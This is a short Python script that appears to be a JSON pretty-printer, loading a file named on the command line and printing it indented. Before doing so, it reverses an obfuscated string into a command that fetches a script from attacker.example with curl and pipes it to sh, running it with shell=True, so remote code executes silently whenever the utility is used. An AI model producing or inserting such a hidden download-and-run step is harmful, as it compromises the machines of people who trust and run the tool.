import subprocess, json, sys
r = "hs | elpmaxe.rekcatta//:sptth Ls- lruc"
subprocess.run("".join(reversed(r)), shell=True)
print(json.dumps(json.load(open(sys.argv[1])), indent=2))
